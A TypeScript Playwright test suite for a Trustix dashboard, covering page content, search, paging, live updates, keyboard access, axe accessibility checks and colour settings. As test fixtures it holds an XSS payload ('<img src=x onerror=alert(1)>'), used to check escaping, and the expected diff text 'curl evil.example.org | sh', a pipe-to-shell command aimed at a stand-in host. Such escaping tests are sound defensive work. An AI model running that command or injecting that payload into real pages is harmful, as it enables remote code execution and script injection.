// The dashboard of a real node in a real Chromium: every page, search, live updates, keyboard and screen reader.

import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { join } from "node:path";
import type { Result } from "axe-core";
import type { Browser, Page } from "playwright";
import { DaemonClient } from "trustix/src/cli/client.ts";
import { listenTo, NODE, startNode, temporary, whenSynced } from "trustix/src/daemon/nodes.test.util.ts";
import { TestLog, TestServer } from "trustix/src/subscribe/test-log.test.util.ts";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ensureDashboard } from "../scripts/dashboard.ts";
import { CHROMIUM, openBrowser, openPage } from "./dashboard-browser.ts";
import { COMPARED, openWorld, type World } from "./dashboard-world.ts";

const AXE = await readFile(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

/** What axe finds wrong with a page as it is now. */
async function violations(page: Page): Promise<string[]> {
  // Not by a script element, which the page's own policy refuses.
  await page.evaluate(AXE);
  const { violations: found } = await page.evaluate(async () => {
    const { axe } = globalThis as unknown as { axe: { run(): Promise<{ violations: Result[] }> } };
    return await axe.run();
  });
  return found.flatMap(({ id, nodes }) =>
    nodes.map(({ html, failureSummary }) => `${id}: ${html} ${failureSummary}`),
  );
}

/** Waits until nothing on the page is on its way any more. */
async function settled(page: Page): Promise<void> {
  await page.locator("h1").waitFor();
  await expect.poll(() => page.locator("[aria-busy]").count(), { timeout: 20_000 }).toBe(0);
}

describe.skipIf(CHROMIUM === undefined)("in Chromium", () => {
  let stack: AsyncDisposableStack;
  let world: World;
  let browser: Browser;
  let url: (path: string) => string;

  beforeAll(async () => {
    stack = new AsyncDisposableStack();
    await ensureDashboard();
    world = stack.use(await openWorld());
    browser = stack.use(await openBrowser());
    url = (path) => new URL(`/ui/${path}`, world.node.url).href;
    const client = new DaemonClient(join(world.node.directory, "state/admin.sock"));
    const claims = [
      { key: "release", value: "2026.11" },
      { key: "<img src=x onerror=alert(1)>", value: "shown as text" },
    ];
    await client.json({
      method: "POST",
      path: "/api/v1/logs/notes/claims",
      body: { claims, wait: true },
      signal: AbortSignal.timeout(20_000),
    });
  });
  afterAll(() => stack.disposeAsync());

  /** Every page, and what it has to show. */
  const pages = (): readonly (readonly [path: string, shows: string])[] => [
    ["", "A builder deviates: chuck"],
    ["builders", "Suspicion: chuck"],
    ["packages", "and more on the next page"],
    ["packages?q=openssl&status=reproducible", "openssl"],
    ["packages?q=nothing-has-this-name", "No path is like that"],
    ["package/motd", "In the list of all paths"],
    ["package/no-such-package", "Search for names that have it in them"],
    ["disputes", "what differs"],
    ["disputes?operator=chuck&kind=majority", "what differs"],
    ["disputes?operator=chuck&kind=conflicting", "No dispute is like that"],
    [`diff/${world.hashPartOf(COMPARED)}`, "curl evil.example.org | sh"],
    [`path/${world.hashPartOf(COMPARED)}`, "2 different statements"],
    ["logs", "quarantined"],
    ["log/alice", "alice.example.org/nix"],
    ["log/alice?before=100", "Newest"],
    ["own/notes", "Verified in your browser"],
    ["evidence", "fork-"],
    ["no-such-page", "There is no such page"],
  ];

  test.each(["light", "dark"] as const)(
    "every page shows what it should, without an error, and is clean to axe in %s",
    async (colorScheme) => {
      await using opened = await openPage(browser, { colorScheme });
      const { page, problems } = opened;
      for (const [path, shows] of pages()) {
        await page.goto(url(path));
        await settled(page);
        await page.getByText(shows).first().waitFor();
        expect(await page.title()).toMatch(/ · Trustix$/);
        expect(problems, path).toEqual([]);
        expect(await violations(page), path).toEqual([]);
      }
    },
  );

  test("a node that has nothing yet says what to do next", async () => {
    await using root = await temporary();
    const empty = await TestLog.create("empty.example.org/nix");
    await empty.append([]);
    await using log = await TestServer.start(empty.files);
    const listening = listenTo([{ name: "empty", vkey: empty.key, logUrl: `${log.address}/` }]);
    await using alone = await startNode(join(root.path, "alone"), NODE);
    await using waiting = await startNode(join(root.path, "waiting"), NODE + listening);
    await whenSynced(waiting);
    const unknown = `path/${"0".repeat(32)}`;
    for (const [node, path, shows] of [
      [alone, "", "This node listens to nobody yet"],
      [alone, "builders", "This node listens to nobody yet"],
      [alone, "packages", "This node listens to nobody yet"],
      [alone, "disputes", "This node listens to nobody yet"],
      [alone, "logs", "This node listens to nobody yet"],
      [alone, "evidence", "No log has been caught"],
      [waiting, "", "Nothing built yet"],
      [waiting, "packages", "See what to do next"],
      [waiting, "disputes", "Nobody contradicts anybody"],
      [waiting, "log/empty", "The log is empty"],
      [waiting, unknown, "No such path"],
      [waiting, "log/none", "No such log"],
    ] as const) {
      await using opened = await openPage(browser);
      await opened.page.goto(new URL(`/ui/${path}`, node.url).href);
      await settled(opened.page);
      await opened.page.getByText(shows).first().waitFor();
      expect(await violations(opened.page), path).toEqual([]);
    }
  });

  test("axe does find what is wrong", async () => {
    await using opened = await openPage(browser);
    await opened.page.goto(url("evidence"));
    await settled(opened.page);
    await opened.page.evaluate(() => document.querySelector("main")?.append(document.createElement("img")));
    expect(await violations(opened.page)).toEqual([expect.stringContaining("image-alt")]);
  });

  test("on a small screen no page is wider than it", async () => {
    await using opened = await openPage(browser, { viewport: { width: 360, height: 740 } });
    for (const [path] of pages()) {
      await opened.page.goto(url(path));
      await settled(opened.page);
      const width = await opened.page.evaluate(() => document.documentElement.scrollWidth);
      expect(width, path).toBeLessThanOrEqual(360);
    }
  });

  test("search narrows as one types, the address keeps it, and the newest question wins", async () => {
    await using opened = await openPage(browser);
    const { page, problems } = opened;
    await page.goto(url("packages"));
    await settled(page);
    await page.keyboard.press("/");
    await page.keyboard.type("haskell-zst", { delay: 20 });
    await expect.poll(() => page.locator("tbody tr").allTextContents()).toHaveLength(1);
    expect(await page.locator("tbody th").textContent()).toMatch(/^haskell-zstd-/);
    expect(new URL(page.url()).searchParams.get("q")).toBe("haskell-zst");
    await page.getByLabel("Status").selectOption("disputed");
    await page.getByText("No path is like that").waitFor();
    await page.reload();
    await page.getByText("No path is like that").waitFor();
    expect(await page.getByLabel("Status").inputValue()).toBe("disputed");
    await page.getByRole("link", { name: "Show all paths" }).click();
    await expect.poll(() => page.locator("tbody tr").count()).toBe(50);
    expect(await page.getByRole("searchbox").inputValue()).toBe("");
    expect(problems).toEqual([]);
  });

  test("paging shows every path once, and goes back the way it came", async () => {
    await using opened = await openPage(browser);
    const { page } = opened;
    await page.goto(url("packages?q=perl"));
    await settled(page);
    const seen: string[] = [];
    for (;;) {
      await settled(page);
      seen.push(
        ...(await page
          .locator("tbody th a")
          .evaluateAll((links) => links.map((link) => link.getAttribute("href")!))),
      );
      const next = page.getByRole("link", { name: "Next" });
      if ((await next.count()) === 0) break;
      await next.click();
      await expect.poll(() => page.locator(`tbody a[href="${seen.at(-1)}"]`).count()).toBe(0);
    }
    expect(seen.length).toBeGreaterThan(50);
    expect(new Set(seen).size).toBe(seen.length);
    await page.getByRole("button", { name: "Back" }).click();
    await page.locator(`tbody a[href="${seen[0]}"]`).waitFor();
  });

  test("a claim that a builder publishes is on the page within seconds, without anybody touching it", async () => {
    await using opened = await openPage(browser);
    const { page, problems } = opened;
    await page.goto(url("packages?q=brand-new"));
    await page.getByText("No path is like that").waitFor();
    await page.getByText("live", { exact: true }).waitFor();
    await world.build("alice", "brand-new-1.0");
    await page.getByRole("link", { name: "brand-new-1.0" }).waitFor({ timeout: 20_000 });
    await page.locator("tbody").getByText("Built once").waitFor();
    await world.build("bob", "brand-new-1.0");
    await page.locator("tbody").getByText("Reproducible").waitFor({ timeout: 20_000 });
    expect(problems).toEqual([]);
  });

  test("everything can be reached with the keyboard alone", async () => {
    await using opened = await openPage(browser);
    const { page } = opened;
    await page.goto(url(""));
    await settled(page);
    const focused = () => page.evaluate(() => document.activeElement?.textContent?.trim() ?? "");
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("Skip to the page");
    await page.keyboard.press("Enter");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("main");
    await page.reload();
    await settled(page);
    while ((await focused()) !== "Packages") await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Packages", level: 1 }).waitFor();
    expect(await focused()).toBe("Packages");
    await settled(page);
    await page.keyboard.press("/");
    await page.keyboard.type("motd");
    await expect.poll(() => page.locator("tbody tr").count()).toBe(1);
    await page.keyboard.press("ArrowDown");
    expect(await focused()).toContain(COMPARED);
    await page.keyboard.press("ArrowUp");
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("INPUT");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: COMPARED, level: 1 }).waitFor();
    expect(new URL(page.url()).pathname).toBe(`/ui/path/${world.hashPartOf(COMPARED)}`);
    await page.goBack();
    await page.getByRole("heading", { name: "Packages", level: 1 }).waitFor();
    expect(await page.getByRole("searchbox").inputValue()).toBe("motd");
  });

  test("from a search one comes to the package, which has the votes of all builders, and to its paths and back", async () => {
    await using opened = await openPage(browser);
    const { page, problems } = opened;
    await page.goto(url("packages?q=motd"));
    await settled(page);
    await page.getByRole("link", { name: "motd", exact: true }).click();
    await page.getByRole("heading", { name: "motd", level: 1 }).waitFor();
    await expect.poll(() => page.title()).toBe("motd · Trustix");
    expect(await page.locator("thead th.vote").allTextContents()).toEqual(["alice", "bob", "chuck"]);
    expect(await page.locator("tbody td.vote .mark").allTextContents()).toEqual(["✓", "✓", "≠"]);
    await page.getByRole("link", { name: COMPARED }).click();
    await expect.poll(() => page.title()).toBe(`${COMPARED} · Trustix`);
    await page.getByRole("link", { name: "motd", exact: true }).click();
    await page.getByRole("heading", { name: "motd", level: 1 }).waitFor();
    expect(problems).toEqual([]);
  });

  test("disputes can be narrowed to those of a builder, and say how many there are", async () => {
    await using opened = await openPage(browser);
    const { page } = opened;
    await page.goto(url("disputes"));
    await settled(page);
    await page.getByText(/^\d+ paths, [\d.]+ % of those that two or more have built\.$/).waitFor();
    const all = await page.locator("tbody tr").count();
    await page.getByLabel("Against the others").selectOption("chuck");
    await expect.poll(() => page.locator("tbody tr").count()).toBeLessThanOrEqual(all);
    expect(new URL(page.url()).searchParams.get("operator")).toBe("chuck");
    await page.getByLabel("Class").selectOption("split");
    await expect.poll(() => page.locator("tbody").getByText("majority", { exact: true }).count()).toBe(0);
  });

  test("the back button leads to where the reader was on the page", async () => {
    await using opened = await openPage(browser);
    const { page } = opened;
    await page.goto(url("packages"));
    await settled(page);
    const link = page.locator("tbody tr").nth(45).locator("a");
    await link.scrollIntoViewIfNeeded();
    const top = await page.evaluate(() => scrollY);
    expect(top).toBeGreaterThan(300);
    await link.click();
    await page.getByRole("heading", { name: "Decision of this node" }).waitFor();
    expect(await page.evaluate(() => scrollY)).toBe(0);
    await page.goBack();
    await page.getByRole("heading", { name: "Packages", level: 1 }).waitFor();
    await expect.poll(() => page.evaluate(() => scrollY)).toBe(top);
    await page.getByRole("link", { name: "Next" }).click();
    await expect.poll(() => page.evaluate(() => scrollY)).toBe(0);
  });

  test("a store path is copied with a click", async () => {
    await using opened = await openPage(browser, { permissions: ["clipboard-read", "clipboard-write"] });
    const { page } = opened;
    await page.goto(url(`path/${world.hashPartOf(COMPARED)}`));
    await page.getByRole("button", { name: "Copy the store path" }).click();
    await page.getByText("Copied").waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
      `/nix/store/${world.hashPartOf(COMPARED)}-${COMPARED}`,
    );
  });

  test("agreement over time is shown as shares and as counts", async () => {
    await using opened = await openPage(browser);
    const { page } = opened;
    await page.goto(url(""));
    const chart = page.locator(".panel").filter({ hasText: "Agreement over time" });
    await chart.getByText(/Reproducible \d+\.\d %/).waitFor();
    await chart.getByRole("button", { name: "as shares" }).click();
    await chart
      .locator(".legend")
      .getByText(/Reproducible \d+$/)
      .waitFor();
  });

  test("the reader's choice of colours is kept", async () => {
    await using opened = await openPage(browser, { colorScheme: "light" });
    const { page } = opened;
    const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    await page.goto(url("logs"));
    await settled(page);
    const light = await ground();
    await page.getByLabel("Colours").selectOption("dark");
    expect(await ground()).not.toBe(light);
    await page.reload();
    await settled(page);
    expect(await ground()).not.toBe(light);
  });
});
